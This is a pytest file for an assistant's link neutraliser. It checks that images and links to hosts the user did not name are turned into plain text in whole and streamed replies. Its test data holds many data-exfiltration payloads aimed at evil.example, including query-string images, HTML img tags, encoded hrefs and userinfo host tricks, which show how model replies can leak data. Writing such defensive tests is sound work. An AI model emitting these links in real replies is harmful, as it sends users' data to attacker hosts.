"""Images and links to web hosts the user did not name become plain text, in whole replies and while streaming."""

from __future__ import annotations

import asyncio
from collections.abc import Collection, Sequence

import pytest

from agent.citation_stream import CitationChecker, CitationStream
from rag.answer.external_links import named_hosts, neutralise_links
from rag.notes.links import LinkResolver

ASKED = named_hosts("What does docs.python.org say about re? And https://wiki.example:8443/page")

NEUTRALISED = [
    ("![x](https://evil.example/p?d=secret)", "x (image from evil.example not shown)"),
    ("![](//evil.example/p.png)", "(image from evil.example not shown)"),
    ('[click](https://evil.example/steal?d=1 "a title")', "click (evil.example)"),
    ("[y](http:evil.example/x)", "y (evil.example)"),
    ("see https://evil.example/a?b=c. Then", "see evil.example. Then"),
    ("(https://evil.example/a_(b)) ok", "(evil.example) ok"),
    ("www.evil.example/x is it", "evil.example is it"),
    ("<https://evil.example/x> auto", "evil.example auto"),
    ('<img src="https://evil.example/p.png" alt=x>', "(image from evil.example not shown)"),
    ('<a href="&#104;ttps://evil.example/x">go</a>', "(link to evil.example removed)go</a>"),
    ("[x](https://docs.python.org@evil.example/)", "x (evil.example)"),  # userinfo: never a named host
    ("[x](https://evil.example/\\@docs.python.org)", "x (evil.example)"),
    (
        "[![i](https://evil.example/i.png)](https://docs.python.org/)",
        "[i (image from evil.example not shown)](https://docs.python.org/)",
    ),
]


@pytest.mark.parametrize(("text", "expected"), NEUTRALISED)
def test_an_external_image_or_link_to_an_unnamed_host_is_plain_text(text: str, expected: str) -> None:
    assert neutralise_links(text, ASKED) == expected


KEPT = [
    "[docs](https://docs.python.org/3/library/re.html)",
    "![chart](https://wiki.example/chart.png) from the page",  # a port in the message names the host all the same
    "[sub](https://www.docs.python.org/x)",
    "`![x](https://evil.example/p)` is how it is written",
    "```\n![x](https://evil.example/p)\n```",
    "[[Sourdough#Final recipe]], [rel](Notes/A.md), ![[image.png]], [me](mailto:a@b.example)",
    "a < b and c > d, - [ ] a task, [1] a footnote",
]


@pytest.mark.parametrize("text", KEPT)
def test_vault_links_named_hosts_and_code_are_kept(text: str) -> None:
    assert neutralise_links(text, ASKED) == text


def test_a_message_names_hosts_by_url_or_by_domain() -> None:
    assert set(ASKED) == {"docs.python.org", "wiki.example"}
    assert named_hosts("nothing here, e.g. no host") == frozenset()


PATHS = ["Areas/Cooking/Sourdough.md"]
REPLY = (
    "Rest it [[Sourdough#Final recipe]]. ![x](https://evil.example/p?d=secret) then [click](https://evil.example/c?d=s)"
    ' or https://evil.example/raw?d=s, <https://evil.example/a> <img src="//evil.example/i"> and www.evil.example/w!\n'
    "A < B, [1] and `![c](https://evil.example/code)`; see https://docs.python.org/3/ too"
)


def stream_all(pieces: Sequence[str], hosts: Collection[str] = ()) -> str:
    checker = CitationChecker(LinkResolver(PATHS), lambda _: ["Final recipe"], allowed={"[[Sourdough#Final recipe]]"})
    stream = CitationStream(checker, allowed_hosts=hosts)

    async def run() -> list[str]:
        return [*[await stream.feed(piece) for piece in pieces], stream.flush()]

    return "".join(asyncio.run(run()))


def test_the_stream_neutralises_like_the_whole_reply_wherever_the_tokens_cut() -> None:
    whole = neutralise_links(REPLY, ASKED)
    cuts = [[REPLY[:cut], REPLY[cut:]] for cut in range(1, len(REPLY))] + [list(REPLY)]

    assert {stream_all(pieces, ASKED) for pieces in cuts} == {whole}
    prose = whole.split("`")[0]
    assert "evil.example/" not in prose and "d=s" not in prose
    assert "[[Sourdough#Final recipe]]" in whole and "https://docs.python.org/3/" in whole


def test_the_stream_keeps_links_to_a_host_the_user_named() -> None:
    assert (
        stream_all(["see [it](https://evil", ".example/x) now"], {"evil.example"})
        == "see [it](https://evil.example/x) now"
    )


def test_a_url_ending_the_reply_is_checked_when_the_stream_flushes() -> None:
    assert stream_all(["the end: https://evil.example/x?d=secret"]) == "the end: evil.example"


def test_the_services_passage_tags_a_model_copies_out_are_dropped_wherever_the_tokens_cut() -> None:
    # Recorded from Qwen2.5-Coder 0.5B: a passage copied into the answer with the </note> that closed it.
    reply = 'Salt | 10 g | 2 %\n</note>\nand <note source="[[Sourdough]]" path="Sourdough.md">x <b>y</b>'
    expected = "Salt | 10 g | 2 %\n\nand x <b>y</b>"

    assert neutralise_links(reply, ASKED) == expected
    assert {stream_all([reply[:cut], reply[cut:]]) for cut in range(1, len(reply))} == {expected}
